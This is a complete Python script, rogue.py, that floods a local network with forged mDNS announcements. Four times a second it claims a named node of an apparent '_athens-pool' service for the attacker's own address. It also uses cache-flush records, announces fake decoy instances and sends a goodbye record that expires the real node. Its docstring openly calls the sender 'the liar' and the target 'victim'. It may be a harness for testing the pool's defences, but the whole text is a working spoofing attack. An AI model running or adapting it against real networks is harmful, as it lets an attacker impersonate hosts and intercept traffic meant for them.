"""Claims a node's place on the LAN: rogue.py ADDRESS NAME KEY OWN-KEY TAG, four times a second until standard input ends.

ADDRESS is the liar's own; NAME and KEY are those that the node goes by (KEY and OWN-KEY in base64url), TAG is its pool's."""
import socket
import struct
import sys
import threading

address, victim, key, own, tag = sys.argv[1:]
GROUP = ("224.0.0.251", 5353)
FLUSH = 0x8001


def name(*labels):
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def record(owner, kind, klass, data, ttl):
    return owner + struct.pack(">HHIH", kind, klass, ttl, len(data)) + data


def claim(label, shown, ttl=4500):
    label = label.encode()
    service = name(b"_athens-pool", b"_tcp", b"local")
    instance, host = name(label, b"_athens-pool", b"_tcp", b"local"), name(label, b"local")
    texts = [b"v=1", b"k=" + shown.encode(), b"p=" + tag.encode()]
    records = [
        record(service, 12, 1, instance, ttl),
        record(instance, 33, FLUSH, struct.pack(">HHH", 0, 0, 3443) + host, ttl),
        record(instance, 16, FLUSH, b"".join(bytes([len(text)]) + text for text in texts), ttl),
        record(host, 1, FLUSH, socket.inet_aton(address), ttl),
    ]
    return struct.pack(">HHHHHH", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


packets = [
    claim(victim, key),
    claim("athens-00000bad", key),
    claim("athens-0000cafe", own),
    claim(victim, key, ttl=0),
]
speaking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
speaking.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
speaking.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
speaking.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
speaking.bind((address, 5353))
over = threading.Event()


def claim_all():
    while not over.wait(0.25):
        for packet in packets:
            speaking.sendto(packet, GROUP)


threading.Thread(target=claim_all, daemon=True).start()
print("claiming", flush=True)
sys.stdin.read()
over.set()
